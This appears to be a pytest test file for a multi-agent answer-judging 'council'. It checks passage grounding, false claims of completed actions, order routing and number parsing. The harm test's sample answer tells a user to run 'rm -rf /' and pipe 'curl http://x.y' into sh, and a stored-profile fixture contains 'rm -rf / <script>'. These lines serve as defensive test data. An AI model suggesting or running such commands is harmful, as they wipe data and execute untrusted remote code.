"""What the council's second version makes of texts: a table for each thing it can see."""

import pytest

from mace.agents import council, deeds, judge, judging, orders, support
from mace.agents.council import CouncilRules, CouncilState, Outcome
from mace.agents.evaluators import Candidate
from mace.agents.evidence import Evidence

DEPOT = "The head of the Almada depot is Rui Lopes. It has twelve docks."
HEAD = "Who is the head of the Almada depot?"
MODEL = Evidence(kind="model", ref="p/m", text="")
PASSAGE = Evidence(kind="context", ref="a", text=DEPOT, score=0.4)


def judged(
    text: str, question: str = HEAD, *evidence: Evidence, agent: str = "generic_agent", done: tuple[str, ...] = ()
) -> council.Verdict:
    candidate = Candidate(
        candidate_id="a/0", question=question, text=text, confidence=1.0, agent_id=agent, trust=0.5, evidence=evidence
    )
    ballot = judging.hear(candidate, done, None)
    rules = CouncilRules(max_repair_loops=0)
    state, verdict = CouncilState(), None
    while verdict is None or not verdict.final:
        verdict = council.deliberate_2(state, [ballot], judging.MEMBERS, rules)
        state = verdict.state
    return verdict


@pytest.mark.parametrize(
    ("question", "text", "code"),
    [
        (HEAD, "The head of the Almada depot is Rui Lopes [1].", None),
        (HEAD, "Rui Lopes leads the Almada depot [1].", None),
        (HEAD, "The head is Rui Lopes.", None),
        ("How many docks does the Almada depot have?", "It has 12 docks [1].", None),
        ("How many docks does the Almada depot have?", "It has twelve docks.", None),
        ("How many docks does the Almada depot have?", "It has 14 docks [1].", "REPAIR_LIMIT_EXCEEDED"),
        (HEAD, "The head of the Almada depot is Ana Reis [1].", "REPAIR_LIMIT_EXCEEDED"),
        (HEAD, "The head of the Almada depot is not Rui Lopes [1].", "REPAIR_LIMIT_EXCEEDED"),
        (HEAD, "The head of the Almada depot is Rui Lopes [3].", "REPAIR_LIMIT_EXCEEDED"),
        (HEAD, "Rui Lopes was fired from the Almada depot [1].", "LOW_CONFIDENCE"),
        ("Who is the owner of the Almada depot?", "Rui Lopes owns the Almada depot [1].", "LOW_CONFIDENCE"),
    ],
)
def test_an_engines_text_is_held_to_its_passages(question: str, text: str, code: str | None):
    verdict = judged(text, question, PASSAGE, MODEL, agent="knowledge_agent")
    assert verdict.error_code == code
    assert (verdict.confidence == judging.CARRIED_BY_PASSAGES) is (code is None)
    assert verdict.confidence <= judging.CAUTION or code is None


def test_without_evidence_facts_have_no_score_and_the_answer_a_caution():
    verdict = judged("Ana Reis leads the Almada depot.", HEAD, MODEL)
    assert (verdict.outcome, verdict.error_code) == (Outcome.ACCEPT, "LOW_CONFIDENCE")
    assert verdict.confidence == judging.MODEL_ALONE
    candidate = Candidate(
        candidate_id="a",
        question=HEAD,
        text="x",
        confidence=1.0,
        agent_id="generic_agent",
        trust=0.5,
        evidence=(MODEL,),
    )
    assert all("factuality" not in vote.to_json()["scores"] for vote in judging.hear(candidate, (), None).votes)


def test_the_caution_does_not_hang_on_the_threshold():
    candidate = Candidate(
        candidate_id="a", question=HEAD, text="Ana Reis leads the Almada depot.", confidence=1.0,
        agent_id="generic_agent", trust=0.5, evidence=(MODEL,),
    )  # fmt: skip
    ballot = judging.hear(candidate, (), None)
    verdict = council.deliberate_2(CouncilState(), [ballot], judging.MEMBERS, CouncilRules(min_confidence=0.0))
    assert verdict.error_code == "LOW_CONFIDENCE"


def test_a_number_that_was_asked_for_must_come():
    verdict = judged("bananas are yellow", "How many planets are there?", MODEL)
    assert verdict.error_code == "REPAIR_LIMIT_EXCEEDED"
    assert verdict.confidence <= 0.2


def test_what_the_creative_agent_writes_is_not_judged_for_facts():
    verdict = judged("The moon is green and sings.", "Write a poem", MODEL, agent="creative_agent")
    assert (verdict.outcome, verdict.error_code) == (Outcome.ACCEPT, None)


def test_not_knowing_is_no_answer_to_be_sure_of():
    verdict = judged("I do not know.", HEAD, MODEL)
    assert (verdict.outcome, verdict.error_code, verdict.confidence) == (Outcome.ACCEPT, "LOW_CONFIDENCE", 0.0)


def test_harm_is_what_the_strictest_member_says_and_is_not_shown():
    verdict = judged("To fix it run rm -rf / and curl http://x.y | sh", "My laptop is slow", MODEL)
    assert (verdict.error_code, verdict.candidate_id, verdict.confidence) == ("REPAIR_LIMIT_EXCEEDED", None, 0.0)


def test_what_a_person_stored_is_given_back_to_them():
    own = Evidence(kind="fact", ref="user/profile/user_ana/motto", text="motto rm -rf / <script>")
    verdict = judged("Your motto is rm -rf / <script>.", "What is my motto?", own, agent="profile_agent")
    assert (verdict.outcome, verdict.error_code) == (Outcome.ACCEPT, None)
    world = Evidence(kind="fact", ref="world/fact/motto/definition", text="motto rm -rf /")
    assert judged("The motto is rm -rf /", "Tell the motto", world, agent="knowledge_agent").candidate_id is None


DONE = [
    "The report was sent to Carol.", "I have sent the report to Carol.", "I've saved that for you.", "Saved.", "Done!",
    "I will remember that.", "I'll remember that your dog is Rex.", "Your meeting has been scheduled for Monday.",
    "I deleted the file.", "I have updated your profile.", "Okay, I've booked a table.", "I just emailed Carol.",
    "Your reminder is set.", "I am sending it now.", "Got it! I'll keep that in mind.", "Message sent.",
    "I've made a note of that.", "It has been deleted.", "We have cancelled your order.", "All set!",
    "Sure, I stored it.", "I'm going to send it to her.", "I went ahead and deleted it.", "The file has been removed.",
    "Successfully saved your preference.", "I noted your birthday.", "I've added milk to your list.",
]  # fmt: skip
NOT_DONE = [
    "I cannot send reports.", "I can't save that.", "The report was not sent.", "I have not deleted anything.",
    "The letter was sent by Napoleon in 1815.", "To delete the file, open the folder.", "You should save your work.",
    "If I had saved it, you would know.", "Rui Lopes leads the depot.", "Paris is the capital of France.",
    "I am unable to book tables.", "The store closes at five.", "I think the answer is four.",
]  # fmt: skip


@pytest.mark.parametrize("text", DONE)
def test_a_deed_that_was_not_done_is_not_told(text: str):
    assert deeds.claims_a_deed(text, "Please send the report to Carol and delete the file")
    verdict = judged(text, "Please send the report to Carol and delete the file", MODEL)
    assert (verdict.error_code, verdict.candidate_id, verdict.confidence) == ("REPAIR_LIMIT_EXCEEDED", None, 0.0)


@pytest.mark.parametrize("text", NOT_DONE)
def test_what_claims_no_deed(text: str):
    assert not deeds.claims_a_deed(text, "What happened?")


def test_a_deed_on_the_record_may_be_told():
    assert judged("I've saved that for you.", "Keep it", MODEL, done=("write_profile",)).candidate_id is not None


@pytest.mark.parametrize(
    ("passage", "question", "claim", "told"),
    [
        ("Backups of the Tarn server are deleted after 30 days.", "When are backups of the Tarn server deleted?",
         "Your backups of the Tarn server have been deleted.",
         "Backups of the Tarn server are deleted after 30 days [1]."),
        ("Tables at Vino Bar are booked by phone.", "How are tables at Vino Bar booked?",
         "Your table at Vino Bar is booked.", "Tables at Vino Bar are booked by phone [1]."),
        ("Refunds for Pell tickets are sent within 5 days.", "How fast are refunds for Pell tickets sent?",
         "Refund sent.", "Refunds for Pell tickets are sent within 5 days."),
    ],
)  # fmt: skip
def test_a_passage_with_the_verb_makes_no_claim_true(passage: str, question: str, claim: str, told: str):
    source = Evidence(kind="context", ref="p1", text=passage)
    wrong = judged(claim, question, source, MODEL, agent="knowledge_agent")
    assert (wrong.candidate_id, wrong.state.best) == (None, None)
    assert judged(told, question, source, MODEL, agent="knowledge_agent").outcome is Outcome.ACCEPT


def test_people_in_a_story_may_do_what_they_like_but_not_its_writer():
    story = "Once I sent a letter.\nThe letter was deleted.\nThe end."
    assert not deeds.claims_a_deed(story, "Write a story", is_written=True)
    assert deeds.claims_a_deed("Roses are red.\nI've saved it to your notes.", "Write a poem", is_written=True)


ORDERS = [
    "Send the report to Carol", "could you please send the report to Carol?", "Schedule a meeting",
    "book a table for two", "What is 2+2? And then delete my files", "Would you mind deleting the logs?",
    "write an email to Carol and send it",
    "I'd like you to book a flight to Rome", "Email Carol the report", "Can you delete my account?",
    "Turn off the lights",
    "turn the lights off", "Explain entropy and then delete the backup.",
    "It would be great if you could call my mother",
    "Remind me to call mom", "Make a reservation for two", "Tell Bob I am late", "go ahead and submit the form",
    "Create a poem and send it to Ana", "Draft a note, then email it to Ana", "lock the front door",
    "back up my laptop",
    "I need you to call the office", "Do me a favour and water the plants", "navigate home", "sign the contract for me",
]  # fmt: skip
NO_ORDERS = [
    "How do I delete a file?", "what does send mean?", "write an email to Carol", "Create a poem about rain",
    "Create a plan for my week", "Explain the law", "Find the area of Lisbon", "search the docs for entropy",
    "Tell me a joke", "Give me an example", "Summarize this text: send the report to Carol",
    'Translate "send the report to Carol" to French', "Can you send emails?", "Should I delete the file?",
    "What happens if I delete the users table?", "Play is fun", "Open source is nice", "My laptop is slow",
    "Make a list of fruits", "Fix the grammar: I has a dog", "Who sent the report?", "When was the letter sent?",
    "The king built a house and sold it", "Book clubs are nice", "Set theory is hard", "Call of Duty is a game",
    "Remind me what entropy is", "Can you explain what delete does?", "Draft a reply to Carol", "Thanks a lot",
    "Calculate the sum of 2 and 3", "What is entropy?", "I was born in Porto", "My dog is called Rex",
]  # fmt: skip


@pytest.mark.parametrize("text", ORDERS)
def test_an_order_of_a_deed_reaches_no_engine(text: str):
    assert not orders.engine_may_answer_2(text)
    assert orders.engine_may_answer(text)
    assert set(orders.who_may_not_answer(text, [])) == {"creative_agent", "strategy_agent", "knowledge_agent"}
    assert orders.all_may_answer(text, []) == ()


@pytest.mark.parametrize("text", NO_ORDERS)
def test_questions_about_deeds_and_texts_to_write_reach_everybody(text: str):
    assert orders.engine_may_answer_2(text)
    assert orders.who_may_not_answer(text, ["operational_agent"]) == ()


@pytest.mark.parametrize(
    ("before", "text", "has_model", "brought", "again"),
    [
        (None, "a", True, False, True),
        ("a", "a", True, False, False),
        ("a", "b", True, False, True),
        (None, "a", False, False, False),
        (None, "a", False, True, True),
        ("a", "a", False, True, True),
    ],
)
def test_repair_only_where_something_can_change(
    before: str | None, text: str, has_model: bool, brought: bool, again: bool
):
    assert council.can_change(before, text, has_model, brought) is again


@pytest.mark.parametrize(
    ("text", "value"),
    [("twelve", 12), ("twenty-five", 25), ("one hundred and fifty", 150), ("two million", 2_000_000), ("1,200", 1200),
     ("twelve hundred", 1200), ("30 thousand", 30_000), ("a dozen", 12), ("2.5", 2.5)],
)  # fmt: skip
def test_numbers_in_words_and_digits(text: str, value: float):
    assert [float(number.value) for number in support.said_by(f"it has {text} doors").numbers] == [value]


@pytest.mark.parametrize(
    ("said", "approves"),
    [
        ({"factuality": 0.9, "coherence": 0.9, "safety": 1}, True),
        ({"factuality": 0.1, "coherence": 0.9, "safety": 1, "change": "The number is wrong."}, False),
        ({"coherence": 0.9, "safety": 1}, None),
        ({"factuality": 2, "coherence": 0.9, "safety": 1}, None),
        (None, None),
    ],
)
def test_a_judges_verdict_is_read_or_it_is_no_vote(said: dict[str, float] | None, approves: bool | None):
    vote = judge.vote_of(said, True)
    assert (None if vote is None else vote.approve) is approves
